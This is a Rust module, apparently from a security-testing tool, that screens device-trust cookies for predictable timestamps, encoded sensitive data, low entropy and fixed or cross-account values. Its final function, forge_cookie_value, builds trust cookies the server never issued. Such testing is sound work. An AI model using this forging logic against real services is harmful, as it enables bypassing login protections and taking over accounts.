use std::collections::BTreeMap;
use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use super::{AttackError, FlawKind, FlawSet};
use crate::cookie::CookieRecord;
use crate::probe::TrustCookieSet;
use crate::time::{Timestamp, SECONDS_PER_DAY};

/// Distance from the login time within which a numeric value counts as a
/// timestamp.
pub const TIMESTAMP_WINDOW_SECS: i64 = 7 * SECONDS_PER_DAY;
/// Minimum share of printable characters in a decoded Base64 payload.
pub const PRINTABLE_RATIO: f64 = 0.9;
/// Values below this Shannon entropy (bits/char) get a warning.
pub const LOW_ENTROPY_BITS: f64 = 3.0;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum TimestampFormat {
    Seconds,
    Millis,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ValueAnalysis {
    pub flaws: FlawSet,
    /// Cookie name to detected timestamp format.
    pub timestamp_formats: BTreeMap<String, TimestampFormat>,
    pub warnings: Vec<String>,
}

/// Digit runs that look like epoch seconds (9-11 digits) or milliseconds
/// (12-14 digits), with their byte ranges.
fn epoch_candidates(value: &str) -> Vec<(std::ops::Range<usize>, i64, TimestampFormat)> {
    let bytes = value.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if !bytes[i].is_ascii_digit() {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && bytes[i].is_ascii_digit() {
            i += 1;
        }
        let run = &value[start..i];
        let format = match run.len() {
            9..=11 => TimestampFormat::Seconds,
            12..=14 => TimestampFormat::Millis,
            _ => continue,
        };
        let n: i64 = run.parse().expect("at most 14 ascii digits");
        let secs = match format {
            TimestampFormat::Seconds => n,
            TimestampFormat::Millis => n / 1000,
        };
        out.push((start..i, secs, format));
    }
    out
}

fn timestamp_near(value: &str, login: Timestamp) -> Option<TimestampFormat> {
    epoch_candidates(value)
        .into_iter()
        .find(|(_, secs, _)| (secs - login.unix()).abs() <= TIMESTAMP_WINDOW_SECS)
        .map(|(_, _, f)| f)
}

fn sensitive_patterns() -> &'static [Regex; 3] {
    static RE: OnceLock<[Regex; 3]> = OnceLock::new();
    RE.get_or_init(|| {
        [
            Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").expect("ipv4 pattern"),
            Regex::new(r"\b\d{4}-\d{2}-\d{2}\b").expect("date pattern"),
            Regex::new(r"(?:^|\D)\d{6}(?:\D|$)").expect("otp pattern"),
        ]
    })
}

fn base64_decode_any(value: &str) -> Option<Vec<u8>> {
    use data_encoding::{BASE64, BASE64URL, BASE64URL_NOPAD, BASE64_NOPAD};
    let v = value.trim().as_bytes();
    [BASE64, BASE64_NOPAD, BASE64URL, BASE64URL_NOPAD]
        .iter()
        .find_map(|enc| enc.decode(v).ok())
        .filter(|d| !d.is_empty())
}

/// The decoded text when `value` is Base64 of mostly printable UTF-8 that
/// carries an IPv4 address, an ISO date or a six-digit code.
pub(crate) fn sensitive_payload(value: &str) -> Option<String> {
    let decoded = base64_decode_any(value)?;
    let text = String::from_utf8(decoded).ok()?;
    let total = text.chars().count();
    let printable = text.chars().filter(|c| !c.is_control()).count();
    if total == 0 || (printable as f64) / (total as f64) < PRINTABLE_RATIO {
        return None;
    }
    sensitive_patterns()
        .iter()
        .any(|re| re.is_match(&text))
        .then_some(text)
}

pub fn shannon_entropy(value: &str) -> f64 {
    let mut counts: BTreeMap<char, usize> = BTreeMap::new();
    for c in value.chars() {
        *counts.entry(c).or_default() += 1;
    }
    let n = value.chars().count() as f64;
    if n == 0.0 {
        return 0.0;
    }
    counts
        .values()
        .map(|&k| {
            let p = k as f64 / n;
            -p * p.log2()
        })
        .sum()
}

fn by_name(set: &TrustCookieSet) -> BTreeMap<&str, &str> {
    set.records
        .iter()
        .map(|r| (r.name.as_str(), r.value.as_str()))
        .collect()
}

fn screen_into(out: &mut ValueAnalysis, set: &TrustCookieSet, login: Timestamp) {
    for r in &set.records {
        if let Some(format) = timestamp_near(&r.value, login) {
            out.timestamp_formats.entry(r.name.clone()).or_insert(format);
            out.flaws.insert(
                FlawKind::PredictableTimestamp,
                format!("{} = {:?} is an epoch value near login time {login}", r.name, r.value),
            );
        }
        if let Some(text) = sensitive_payload(&r.value) {
            out.flaws.insert(
                FlawKind::SensitiveEncoding,
                format!("{} decodes to {text:?}", r.name),
            );
        }
    }
}

/// Single-capture screen: timestamp and encoded-payload checks against the
/// capture time, plus low-entropy warnings. Fixed-value and cross-account
/// findings need the four-login comparison and are never reported here.
pub fn screen_values(set: &TrustCookieSet, taken_at: Timestamp) -> ValueAnalysis {
    let mut out = ValueAnalysis::default();
    screen_into(&mut out, set, taken_at);
    for r in &set.records {
        let h = shannon_entropy(&r.value);
        if h < LOW_ENTROPY_BITS {
            out.warnings
                .push(format!("LowEntropy: {} has {h:.2} bits/char", r.name));
        }
    }
    out
}

/// Looks for structure in trust values captured from four independent
/// remember flows: victim twice, then attacker twice.
pub fn analyze_value_scheme(
    sets: &[TrustCookieSet],
    login_times: &[Timestamp],
) -> Result<ValueAnalysis, AttackError> {
    if sets.len() < 4 || login_times.len() < 4 || sets.iter().any(TrustCookieSet::is_empty) {
        return Err(AttackError::InsufficientSets(
            sets.iter().filter(|s| !s.is_empty()).count().min(login_times.len()),
        ));
    }
    let mut out = ValueAnalysis::default();

    for (set, &login) in sets.iter().zip(login_times).take(4) {
        screen_into(&mut out, set, login);
    }

    // Coincident login times make timestamp values repeat; do not read
    // that as a constant.
    if !out.flaws.contains(FlawKind::PredictableTimestamp) {
        let [v1, v2, a1, a2] = [&sets[0], &sets[1], &sets[2], &sets[3]].map(by_name);
        if v1 == v2 && a1 == a2 {
            if v1 == a1 {
                out.flaws.insert(
                    FlawKind::FixedValue,
                    "identical values across all four logins".to_string(),
                );
                out.flaws.insert(
                    FlawKind::CrossAccountReuse,
                    "victim and attacker accounts received the same values".to_string(),
                );
            } else {
                out.flaws.insert(
                    FlawKind::FixedValue,
                    "values constant per account across logins".to_string(),
                );
            }
        }
    }

    for r in &sets[0].records {
        let h = shannon_entropy(&r.value);
        if h < LOW_ENTROPY_BITS {
            out.warnings
                .push(format!("LowEntropy: {} has {h:.2} bits/char", r.name));
        }
    }
    Ok(out)
}

/// Builds a trust cookie the server should accept without ever issuing
/// it: the observed constant for fixed or shared values, or `now` written
/// in the observed timestamp format.
pub fn forge_cookie_value(
    flaw: FlawKind,
    template: &CookieRecord,
    now: Timestamp,
) -> Result<CookieRecord, AttackError> {
    let value = match flaw {
        FlawKind::FixedValue | FlawKind::CrossAccountReuse => template.value.clone(),
        FlawKind::PredictableTimestamp => {
            let (range, _, format) = epoch_candidates(&template.value)
                .into_iter()
                .next()
                .ok_or_else(|| AttackError::Unforgeable(format!("{} (no epoch field)", template.name)))?;
            let stamp = match format {
                TimestampFormat::Seconds => now.unix().to_string(),
                TimestampFormat::Millis => (now.unix() * 1000).to_string(),
            };
            let mut v = template.value.clone();
            v.replace_range(range, &stamp);
            v
        }
        other => return Err(AttackError::Unforgeable(other.label().to_string())),
    };
    let mut forged = template.clone();
    forged.value = value;
    forged.expires_at = template
        .expires_at
        .map(|exp| now.saturating_add(exp.unix() - template.created_at.unix()));
    forged.created_at = now;
    Ok(forged)
}
